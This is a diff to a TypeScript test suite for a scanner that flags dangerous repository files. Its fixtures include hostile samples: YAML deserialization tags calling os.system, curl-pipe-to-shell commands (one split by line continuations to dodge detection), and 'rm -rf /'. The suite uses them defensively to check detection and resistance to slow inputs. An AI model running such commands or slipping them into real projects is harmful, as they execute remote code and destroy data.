@@ -6,6 +6,12 @@ import { Bytes } from '../source.ts';
 import { text } from './index.ts';
 
 async function rules(name: string, content: string): Promise<string[]> {
+  const { reports, unread } = await readAs(name, content);
+  assert.equal(unread, 0);
+  return reports.map(({ rule, severity }) => (severity === undefined ? rule : `${rule} ${severity}`));
+}
+
+async function readAs(name: string, content: string): Promise<{ reports: Report[]; unread: number }> {
   const reports: Report[] = [];
   const source = new Bytes(new TextEncoder().encode(content));
   const coverage = new Coverage(source.size);
@@ -24,11 +30,11 @@ async function rules(name: string, content: string): Promise<string[]> {
     inside: async () => {},
     unpack: async () => assert.fail(),
     pause: () => undefined,
+    beside: () => {},
     note: () => {},
   };
   await text.read(part);
-  assert.equal(coverage.bytes.unread, 0);
-  return reports.map(({ rule, severity }) => (severity === undefined ? rule : `${rule} ${severity}`));
+  return { reports, unread: coverage.bytes.unread };
 }
 
 test('requirements from elsewhere are told, those of the usual index are not', async () => {
@@ -73,7 +79,6 @@ test('YAML is looked at like other settings', async () => {
     await rules('c.yml', '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n'),
     ['yaml.python-object'],
   );
-  assert.deepEqual(await rules('c.yml', `${'['.repeat(20_000)}`), []);
   assert.deepEqual(await rules('c.yml', 'lr: 1e-4\nlayers: [1, 2]\nname: net\n'), []);
 });
 
@@ -161,7 +166,7 @@ test('tags that call, and names that stand elsewhere, are followed', async () =>
     'a: !name:os.system\n',
     'a: &t os.system\nb:\n  _target_: *t\n',
   ])
-    assert.deepEqual(await rules('h.yaml', one), ['repo.dangerous-target'], one);
+    assert.deepEqual([...new Set(await rules('h.yaml', one))], ['repo.dangerous-target'], one);
   for (const one of [
     'a: !<tag:yaml.org,2002:p%79thon/object/apply:os.system> [id]\n',
     'a: !!javax.script.ScriptEngineManager []\n',
@@ -177,6 +182,35 @@ test('tags that call, and names that stand elsewhere, are followed', async () =>
   );
 });
 
+test('no text takes much longer than its length, and nothing is hidden behind blanks', async () => {
+  const names = [
+    'setup.cfg',
+    'pyproject.toml',
+    '.gitconfig',
+    '.npmrc',
+    'Dockerfile',
+    'Modelfile',
+    'x.json',
+    'x.jsonc',
+    '.envrc',
+  ];
+  for (const unit of ['\n', '\r', '\u2028', ' ', ' \n', '\t', '\\"', "\\'", '[', "'\\'", '"\\'])
+    for (const name of names) await rules(name, `{"a": x\n${unit.repeat(60_000)}`);
+  const far = `[options]\n${' \n'.repeat(400_000)}[options.cmdclass]\n${'\n'.repeat(100_000)}cmdclass = x.y\n`;
+  assert.deepEqual(await rules('setup.cfg', far), ['repo.install-hook']);
+});
+
+test('YAML of errors or of aliases alone takes no longer than its length', async () => {
+  // The parser shows every error with its line cut out anew, and looks for the anchor of each alias from the start.
+  await rules('h.yaml', ' a: x]the##ing\n'.repeat(8_000));
+  await rules('h.yaml', `a: &a x\nb:\n${'- *a\n'.repeat(30_000)}`);
+  // Once where it stands, and once where it is called.
+  assert.deepEqual(await rules('h.yaml', 'a: &t x\nb: &t os.system\nc:\n  _target_: *t\nd: &t y\n'), [
+    'repo.dangerous-target',
+    'repo.dangerous-target',
+  ]);
+});
+
 test('commands of tasks, scripts and images', async () => {
   for (const [name, command] of [
     ['run.sh', 'bash -c "$(curl -fsSL https://example.com/x)"'],
@@ -187,9 +221,12 @@ test('commands of tasks, scripts and images', async () => {
     ['run.sh', 'cu\\\nrl https://example.com/x | s\\\nh'],
     ['run.sh', 'rm -rf /'],
     ['cog.yaml', 'build:\n  run:\n    - curl https://example.com/x | sh'],
-    ['model.R', 'system("curl https://example.com/x | sh")'],
   ] as const)
     assert.deepEqual(await rules(name, `${command}\n`), ['code.hostile-command'], command);
+  assert.deepEqual(await rules('model.R', 'system("curl https://example.com/x | sh")\n'), [
+    'code.runs-command',
+    'code.hostile-command',
+  ]);
   for (const [name, command] of [
     ['Dockerfile', 'RUN apt-get install -y curl && rm -rf /var/lib/apt/lists/*'],
     ['Dockerfile', 'RUN curl -o /usr/bin/tini https://example.com/tini && chmod +x /usr/bin/tini'],
@@ -265,4 +302,11 @@ test('settings of packages say where they come from', async () => {
     [],
   );
   assert.deepEqual(await rules('setup.cfg', '[metadata]\nname = x\nurl = https://example.com\n'), []);
+});
+
+test('YAML that is not read to its end is not called clean', async () => {
+  const deep = `${Array.from({ length: 80 }, (_, depth) => `${' '.repeat(depth)}a:`).join('\n')} 1\n`;
+  const long = 'a: 1\n'.repeat(900_000);
+  for (const text of [deep, long, '['.repeat(20_000)])
+    assert.equal((await readAs('h.yaml', text)).unread, text.length);
 });
